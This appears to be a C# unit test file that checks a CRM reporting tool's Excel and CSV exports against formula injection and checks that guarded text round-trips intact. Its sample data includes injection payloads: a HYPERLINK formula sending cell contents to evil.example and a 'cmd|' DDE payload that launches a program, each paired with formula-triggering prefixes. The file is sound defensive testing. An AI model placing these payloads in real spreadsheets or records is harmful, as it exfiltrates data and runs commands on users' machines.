using RevOps.Core.Basics;
using RevOps.Core.Crm;
using RevOps.Core.Reports;
using RevOps.Core.Reports.Excel;
using RevOps.Tests.TestKit;

namespace RevOps.Tests.Reports;

/// <summary>Text from a CRM never runs as a formula in the spreadsheet that opens our file, and comes back from it as it was.</summary>
public sealed class FormulaTests : IDisposable
{
    /// <summary>What begins a formula, or is read past to find one, or becomes one when full-width signs are made plain.</summary>
    public static readonly string[] Prefixes = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", "\"=", "'=", "  =", "\u00A0+", "''-"];

    private static readonly string[] Bodies = ["1+1", "HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "cmd|'/C calc'!A0"];
    private static readonly string[] DealTexts = ["name", "product", "forecast_category", "win_reason", "competitor", "payment_terms", "next_step", "decision_maker", "legal_redlines", "lead_source"];

    private readonly string _folder = Directory.CreateTempSubdirectory("revops-test-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Fact]
    public void No_text_of_any_table_becomes_a_formula_in_either_kind_of_file()
    {
        var report = Poisoned();
        var files = new List<string>();
        Save("report.xlsx", target => ExcelReport.Write(report, "=1+1", DateTimeOffset.UnixEpoch, target));
        Save("report-all.csv", target => CsvReport.Write(report, target));
        foreach (var table in report.Tables)
            Save($"{table.Id}.csv", target => CsvReport.Write(table, target));

        var opened = LibreOffice.Open(files);

        var texts = 0;
        foreach (var (file, sheets) in opened)
            foreach (var cell in sheets.Values.SelectMany(rows => rows.Where(row => row[0].Text != "Total")).SelectMany(row => row))
            {
                Assert.True(cell.Formula is null, $"{file}: “{cell.Text}” is the formula {cell.Formula}");
                texts += Bodies.Any(body => cell.Text.EndsWith(body, StringComparison.Ordinal)) ? 1 : 0;
            }
        var expected = report.Tables.Sum(table => table.Rows.Count * table.Columns.Count(column => column.Unit == Unit.Text));
        Assert.True(texts >= expected * 3, $"{texts} texts were seen of {expected} in three files");
        TestContext.Current.SendDiagnosticMessage($"{Prefixes.Length} prefixes, {expected} cells, {files.Count} files, {texts} texts opened");

        void Save(string name, Action<Stream> write)
        {
            files.Add(Path.Combine(_folder, name));
            using var target = new FileStream(files[^1], FileMode.Create, FileAccess.ReadWrite);
            write(target);
        }
    }

    [Fact]
    public void An_exported_text_is_imported_as_it_was()
    {
        string[] originals = [.. Prefixes.SelectMany(_ => Bodies, (prefix, body) => prefix + body), "plain", "O'Brien", "'tis", "-", "=", "5 - 3", "Ünïcode, with \"quotes\"\nand lines"];
        List<ReportColumn> columns = [new("deal_id", "Id", Unit.Text), new("stage", "Stage", Unit.Text), new("amount", "Amount", Unit.Money), .. DealTexts.Select(key => new ReportColumn(key, key, Unit.Text))];
        var table = new ReportTable("deals", "Deals", columns, [.. originals.Select((text, index) => (IReadOnlyList<object?>)[$"d{index:000}", "Discovery", 100m, .. DealTexts.Select(_ => (object?)text)])]);
        var path = Path.Combine(_folder, "deals.csv");
        using (var target = File.Create(path))
            CsvReport.Write(table, target);
        using var scratch = new ScratchStore();

        var (preview, _) = scratch.Import([path]);

        Assert.Empty(preview.Rejected);
        var book = scratch.Store.Knowledge().AsOf(new(2026, 11, 24));
        for (var index = 0; index < originals.Length; index++)
            foreach (var key in DealTexts)
                Assert.Equal(originals[index], book[key].Text(book.Find($"d{index:000}")));
    }

    [Fact]
    public void The_guard_comes_off_exactly_once()
    {
        string[] texts = ["", "plain", "=1", "'=1", "''=1", "' =1", "'", "''", "'plain", "O'Brien", " \t=x", "\uFF1D1", "\"=1\"", "-5", "+49 30 1234"];
        foreach (var text in texts)
        {
            Assert.Equal(text, FormulaGuard.Unguard(FormulaGuard.Guard(text)).ToString());
            Assert.DoesNotContain(FormulaGuard.Guard(text) is [var first, ..] ? first : ' ', "=+-@\t\r\n\uFF1D");
        }
    }

    private static Report Poisoned()
    {
        string[] evil = [.. Prefixes.SelectMany(_ => Bodies, (prefix, body) => prefix + body)];
        var tables = new[] { ("deals", DealTexts), ("reps", ["rep", "team"]), ("stages", ["stage", "pipeline"]) }.Select(shape => new ReportTable(shape.Item1, evil[0] + shape.Item1,
            [.. shape.Item2.Select(key => new ReportColumn(key, evil[1] + key, Unit.Text)), new("value", "=Value", Unit.Money) { AddsUp = true }],
            [.. evil.Select((text, index) => (IReadOnlyList<object?>)[.. shape.Item2.Select(_ => (object?)text), -1.5m * index])])).ToList();
        return new("/pipeline-review", new(2026, 11, 24), DateTimeOffset.UnixEpoch, evil[0], evil[3], evil[6],
            [new("x.figure", evil[0], evil[9], Unit.Text, evil[1])], tables, [new(Status.Red, evil[2], [])], [new(evil[4], evil[5], new(2026, 11, 24), evil[7], [])], [evil[8]]);
    }
}
